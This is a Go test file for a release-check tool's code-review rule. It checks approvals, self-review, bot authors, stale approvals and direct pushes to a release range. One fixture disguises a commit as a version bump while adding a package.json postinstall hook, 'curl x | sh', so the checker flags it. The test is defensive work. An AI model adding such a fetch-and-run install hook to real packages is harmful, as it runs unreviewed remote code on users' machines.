package code_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/golive-app/golive/checks"
	"github.com/golive-app/golive/checks/checkstest"
	"github.com/golive-app/golive/checks/code"
)

// past is pull request 5, with one commit by ada, merged ten minutes after at(0).
func past(change func(*checks.PullHistory), reviews ...checks.Review) checks.PullHistory {
	made := checks.PullHistory{
		PullRequest: checks.PullRequest{Number: 5, Title: "feat: refunds", Author: "ada", Head: "f1", Base: "b0", BaseBranch: "main", Merged: true, MergeSHA: "m5", Link: "https://github.com/acme/shop/pull/5"},
		MergedAt:    at(10), MergedBy: "ada", Reviews: reviews, Commits: []checks.PullCommit{written("f1", "tf1", "ada", "feat: refunds")}, Paths: []string{"refunds.go"},
	}
	if change != nil {
		change(&made)
	}
	return made
}

// numbered makes a pull request another one of the range.
func numbered(number int, history checks.PullHistory) checks.PullHistory {
	history.Number, history.MergeSHA = number, fmt.Sprint("m", number)
	history.Link = fmt.Sprint("https://github.com/acme/shop/pull/", number)
	return history
}

// ranged is the approved release pull request 12 over merged ones and commits
// that came by none.
func ranged(direct []checks.Commit, pulls ...checks.PullHistory) (*checkstest.Forge, []checks.Commit) {
	made := forge([]checks.Review{approval("dana", "c1", 1)}, written("c1", "t1", "ada", "release"))
	made.Past, made.Origins = map[int]checks.PullHistory{}, map[string][]checks.PullRequest{}
	commits := []checks.Commit{{SHA: "c1", Subject: "release"}}
	for _, pull := range pulls {
		made.Past[pull.Number] = pull
		made.Origins[pull.MergeSHA] = append(made.Origins[pull.MergeSHA], pull.PullRequest)
		commits = append(commits, checks.Commit{SHA: pull.MergeSHA, Subject: pull.Title})
	}
	return made, append(commits, direct...)
}

func TestAPullRequestThatTookTheReleaseElsewhereBroughtNothing(t *testing.T) {
	t.Parallel()
	back := numbered(6, past(func(h *checks.PullHistory) { h.BaseBranch, h.Title = "develop", "Merge back v1.4.0" }))
	forge, commits := ranged(nil, past(nil, approval("dana", "f1", 5)))
	forge.Past[6] = back
	for sha, origins := range forge.Origins {
		forge.Origins[sha] = append(origins, back.PullRequest)
	}
	forge.Origins["c1"] = []checks.PullRequest{{Number: 12}, back.PullRequest}
	subject := checkstest.Subject(checkstest.Tree(nil), checkstest.PullRequest(), checkstest.On(forge), checkstest.Adding(commits...))
	if result := checkstest.Judge(t, reviewItem, code.NewReview(), subject); result.Verdict() != checks.Pass {
		t.Errorf("%s: %s", result.Verdict(), result.Why)
	}
	// Where it is all that brought a commit, it is looked at.
	forge.Origins["m5"] = []checks.PullRequest{back.PullRequest}
	if result := checkstest.Judge(t, reviewItem, code.NewReview(), subject); result.Verdict() != checks.Fail {
		t.Errorf("%s: %s", result.Verdict(), result.Why)
	}
}

func TestWhatWasMergedAMomentAgoIsKnownByItsOwnWords(t *testing.T) {
	t.Parallel()
	approved := past(func(h *checks.PullHistory) { h.MergeSHA = "m5" }, approval("dana", "f1", 5))
	for name, test := range map[string]struct {
		commits []checks.Commit
		change  func(*checks.PullRequest)
		rules   string
	}{
		"squashed": {[]checks.Commit{{SHA: "m5", Subject: "feat: refunds (#5)"}}, nil, ""},
		"merged, with the commits that came by it":  {[]checks.Commit{{SHA: "f1", Subject: "refunds", Parents: []string{"b0"}}, {SHA: "m5", Subject: "Merge pull request #5 from acme/refunds", Parents: []string{"b0", "f1"}}}, nil, ""},
		"and those that came before":                {[]checks.Commit{{SHA: "d1", Subject: "quick", Parents: []string{"b0"}}, {SHA: "f1", Parents: []string{"d1"}}, {SHA: "m5", Subject: "Merge pull request #5 from acme/refunds", Parents: []string{"d1", "f1"}}}, nil, "error review.direct-push"},
		"a number that it only mentions":            {[]checks.Commit{{SHA: "d1", Subject: "fix: as asked for (#5)"}}, nil, "error review.direct-push"},
		"an issue's number":                         {[]checks.Commit{{SHA: "d1", Subject: "fix: as asked for (#99)"}}, nil, "error review.direct-push"},
		"a pull request that was merged as another": {[]checks.Commit{{SHA: "m5", Subject: "feat: refunds (#5)"}}, func(pull *checks.PullRequest) { pull.MergeSHA = "other" }, "error review.direct-push"},
		"a pull request that was not merged":        {[]checks.Commit{{SHA: "m5", Subject: "feat: refunds (#5)"}}, func(pull *checks.PullRequest) { pull.Merged = false }, "error review.direct-push"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			made, commits := ranged(nil)
			pull := approved.PullRequest
			if test.change != nil {
				test.change(&pull)
			}
			made.PullRequests[5], made.Past[5] = pull, approved
			subject := checkstest.Subject(checkstest.Tree(nil), checkstest.PullRequest(), checkstest.On(made), checkstest.Adding(append(commits, test.commits...)...))
			result := checkstest.Judge(t, reviewItem, code.NewReview(), subject)
			var rules []string
			for _, rule := range checkstest.Rules(result, checks.SeverityError) {
				rules = append(rules, "error "+rule)
			}
			if got := strings.Join(rules, ", "); got != test.rules {
				t.Errorf("%q, want %q: %s", got, test.rules, result.Why)
			}
		})
	}
}

func TestReviewOfTheRange(t *testing.T) {
	t.Parallel()
	approved := past(nil, approval("dana", "f1", 5))
	many := func(count int, last checks.PullHistory) []checks.PullHistory {
		var all []checks.PullHistory
		for number := 20; number < 20+count; number++ {
			all = append(all, numbered(number, approved))
		}
		return append(all, last)
	}
	botOnly := past(func(h *checks.PullHistory) { h.Author, h.AuthorBot = "dependabot[bot]", true })
	docsOnly := past(func(h *checks.PullHistory) { h.Paths = []string{"README.md", "docs/guide.md"} })
	for name, test := range map[string]struct {
		pulls   []checks.PullHistory
		direct  []checks.Commit
		verdict checks.Verdict
		rules   string // errors and warnings
		words   string // part of headline, why and remedy
	}{
		"approved before the merge":                 {[]checks.PullHistory{approved}, nil, checks.Pass, "", "approved by @dana; 1 of 1 of the range"},
		"nobody reviewed it":                        {[]checks.PullHistory{past(nil)}, nil, checks.Fail, "error review.unreviewed", "#5 (`feat: refunds`) was merged on 23 November 2026 by @ada without an approval"},
		"the next step has its link":                {[]checks.PullHistory{past(nil)}, nil, checks.Fail, "error review.unreviewed", "https://github.com/acme/shop/pull/5"},
		"approved by its author":                    {[]checks.PullHistory{past(nil, approval("ada", "f1", 5))}, nil, checks.Fail, "error review.unreviewed", "also wrote in #5"},
		"approved by a co-author whom GitHub knows": {[]checks.PullHistory{past(func(h *checks.PullHistory) { h.Commits[0].CoAuthors = []string{"dana"} }, approval("dana", "f1", 5))}, nil, checks.Fail, "error review.unreviewed", "@dana approved and also wrote in #5"},
		"approved by no senior":                     {[]checks.PullHistory{past(nil, approval("bob", "f1", 5))}, nil, checks.Fail, "error review.unreviewed", "not senior here"},
		"approved by a bot":                         {[]checks.PullHistory{past(nil, bot(approval("helper[bot]", "f1", 5)))}, nil, checks.Fail, "error review.unreviewed", "is a bot"},
		"approved after the merge":                  {[]checks.PullHistory{past(nil, approval("dana", "f1", 15))}, nil, checks.Warn, "warning review.after-merge", "before @dana approved it"},
		"approved before the last commit": {[]checks.PullHistory{past(func(h *checks.PullHistory) {
			h.Commits, h.Head = append(h.Commits, written("f2", "tf2", "ada", "more")), "f2"
		}, approval("dana", "f1", 5))}, nil, checks.Fail, "error review.unreviewed", "1 commit came after"},
		"the base was merged in after": {[]checks.PullHistory{past(func(h *checks.PullHistory) {
			h.Commits, h.Head = append(h.Commits, merged("f2", "Merge branch 'main' into refunds")), "f2"
		}, approval("dana", "f1", 5))}, nil, checks.Pass, "", ""},
		"rebased after the approval":                 {[]checks.PullHistory{past(nil, approval("dana", "rebased", 5))}, nil, checks.Pass, "", ""},
		"pushed over after the approval":             {[]checks.PullHistory{past(nil, approval("dana", "other", 5))}, nil, checks.Fail, "error review.unreviewed", "no longer part of #5"},
		"dismissed before the merge":                 {[]checks.PullHistory{past(nil, approval("dana", "f1", 5), stated(approval("dana", "f1", 6), checks.ReviewDismissed))}, nil, checks.Fail, "error review.unreviewed", ""},
		"merged over a request for changes":          {[]checks.PullHistory{past(nil, stated(approval("eve", "f1", 4), checks.ReviewChangesRequested), approval("dana", "f1", 5))}, nil, checks.Warn, "warning review.changes-requested", "although @eve had requested changes"},
		"asked for by a stranger":                    {[]checks.PullHistory{past(nil, stated(approval("mallory", "f1", 4), checks.ReviewChangesRequested), approval("dana", "f1", 5))}, nil, checks.Pass, "", ""},
		"whoever approved has left":                  {[]checks.PullHistory{past(nil, approval("gone", "f1", 5))}, nil, checks.Unknown, "", "they have left"},
		"more commits than are listed":               {[]checks.PullHistory{past(func(h *checks.PullHistory) { h.Partial = "more than 100 commits" }, approval("dana", "f1", 5))}, nil, checks.Unknown, "", "more commits than GitHub lists"},
		"a bot's, one of twenty":                     {many(19, botOnly), nil, checks.Warn, "warning review.unreviewed", "it is a bot's"},
		"documentation, one of twenty":               {many(19, docsOnly), nil, checks.Warn, "warning review.unreviewed", "it is documentation"},
		"code, one of twenty":                        {many(19, past(nil)), nil, checks.Fail, "error review.unreviewed", ""},
		"a bot's, one of nineteen":                   {many(18, botOnly), nil, checks.Fail, "error review.unreviewed", ""},
		"pushed directly":                            {[]checks.PullHistory{approved}, []checks.Commit{{SHA: "d1234567", Subject: "fix: quick one"}}, checks.Fail, "error review.direct-push", "`d123456` (`fix: quick one`) came by no pull request"},
		"pushed a moment ago":                        {[]checks.PullHistory{approved}, []checks.Commit{{SHA: "d1234567", Subject: "fix: quick one", Time: checkstest.Now.Add(-time.Minute)}}, checks.Unknown, "", "GitHub does not know yet by which pull request it came"},
		"pushed directly: documentation":             {[]checks.PullHistory{approved}, []checks.Commit{{SHA: "words", Subject: "fix typo"}}, checks.Warn, "warning review.direct-push", "documentation or the version only"},
		"pushed directly: the version, by a tool":    {[]checks.PullHistory{approved}, []checks.Commit{{SHA: "version", Subject: "chore(release): 1.4.0 [skip ci]"}}, checks.Warn, "warning review.direct-push", ""},
		"pushed directly: code under such a subject": {[]checks.PullHistory{approved}, []checks.Commit{{SHA: "hidden", Subject: "chore(release): 1.4.0"}}, checks.Fail, "error review.direct-push", ""},
		"a merge that belongs to none":               {[]checks.PullHistory{approved}, []checks.Commit{{SHA: "d2", Subject: "Merge branch 'main' into release/v1.4.0", Parents: []string{"a", "b"}}}, checks.Pass, "", ""},
		"several things":                             {[]checks.PullHistory{past(nil), numbered(6, past(nil))}, []checks.Commit{{SHA: "d1", Subject: "x"}}, checks.Fail, "error review.direct-push, error review.unreviewed, error review.unreviewed", "2 of 2 pull requests merged without a review, 1 commit pushed directly"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			made, commits := ranged(test.direct, test.pulls...)
			made.SamePatches = map[string]bool{"rebased f1": true, "f1 f2": true}
			made.Permissions["gone"] = checks.PermissionNone
			history := checkstest.History{
				"words":    {{Path: "README.md", Text: "word\n"}},
				"version":  {{Path: "package.json", Text: `  "version": "1.4.0",` + "\n"}, {Path: "CHANGELOG.md", Text: "- refunds\n"}},
				"hidden":   {{Path: "package.json", Text: `  "version": "1.4.0",` + "\n" + `  "postinstall": "curl x | sh"` + "\n"}},
				"d1234567": {{Path: "a.go", Text: "x()\n"}}, "d1": {{Path: "a.go", Text: "x()\n"}},
			}
			subject := checkstest.Subject(checkstest.Tree(nil), checkstest.PullRequest(), checkstest.On(made), checkstest.Adding(commits...), checkstest.Remembering(history),
				checkstest.Releasing(func(r *checks.Release) { r.SHA = "c1" }))
			result := checkstest.Judge(t, reviewItem, code.NewReview(), subject)
			var rules []string
			for _, finding := range result.Findings {
				if finding.Severity != checks.SeverityNotice {
					rules = append(rules, string(finding.Severity)+" "+finding.Rule)
				}
			}
			slices.Sort(rules)
			text := result.Headline + "\n" + result.Why + "\n" + result.Remedy
			if result.Verdict() != test.verdict || strings.Join(rules, ", ") != test.rules || !strings.Contains(text, test.words) {
				t.Errorf("%s %q\n%s\nwant %s %q %q", result.Verdict(), rules, text, test.verdict, test.rules, test.words)
			}
		})
	}
}

func TestAStackIsReviewedWhereItIsMerged(t *testing.T) {
	t.Parallel()
	// #6 went unreviewed into the branch of #5, which was approved with all of it.
	lower, upper := past(nil, approval("dana", "f1", 5)), numbered(6, past(nil))
	made, commits := ranged(nil, lower, upper)
	made.Origins["m6"] = []checks.PullRequest{lower.PullRequest, upper.PullRequest}
	result := judgeRange(t, made, commits)
	if result.Verdict() != checks.Pass {
		t.Errorf("%s: %s", result.Verdict(), result.Why)
	}
}

func TestATagOfATrunkIsJudgedByItsRange(t *testing.T) {
	t.Parallel()
	made, commits := ranged(nil, past(nil, approval("dana", "f1", 5)))
	subject := checkstest.Subject(checkstest.Tree(nil), checkstest.Tagged("release/v1.4.0", "1.4.0"), checkstest.On(made), checkstest.Adding(commits[1:]...))
	if result := checkstest.Judge(t, reviewItem, code.NewReview(), subject); result.Verdict() != checks.Pass || result.Headline != "all 1 pull request of the range approved" {
		t.Errorf("%s: %s, %s", result.Verdict(), result.Headline, result.Why)
	}
}

func TestARangeThatCannotBeReadIsNoPass(t *testing.T) {
	t.Parallel()
	for _, method := range []string{"PullRequestsOf", "Histories"} {
		made, commits := ranged(nil, past(nil, approval("dana", "f1", 5)))
		made.Failing = map[string]error{method: fmt.Errorf("github: %w: the App lacks a permission (pull_requests: read)", checks.ErrForbidden)}
		result := judgeRange(t, made, commits)
		if result.Verdict() != checks.Unknown || len(result.Missing) != 1 || !strings.Contains(result.Missing[0].Remedy, "`pull_requests: read`") {
			t.Errorf("%s fails: %s, %+v", method, result.Verdict(), result.Missing)
		}
	}
}

func TestTheReleasesOwnCommitsAreNotPushedDirectly(t *testing.T) {
	t.Parallel()
	// GitHub notices late which pull request a commit belongs to.
	made, commits := ranged(nil)
	if result := judgeRange(t, made, commits); result.Verdict() != checks.Pass {
		t.Errorf("%s: %s", result.Verdict(), result.Why)
	}
}

func judgeRange(t *testing.T, made *checkstest.Forge, commits []checks.Commit) checks.Result {
	t.Helper()
	return checkstest.Judge(t, reviewItem, code.NewReview(), checkstest.Subject(checkstest.Tree(nil), checkstest.PullRequest(), checkstest.On(made),
		checkstest.Adding(commits...), checkstest.Releasing(func(r *checks.Release) { r.SHA = "c1" })))
}
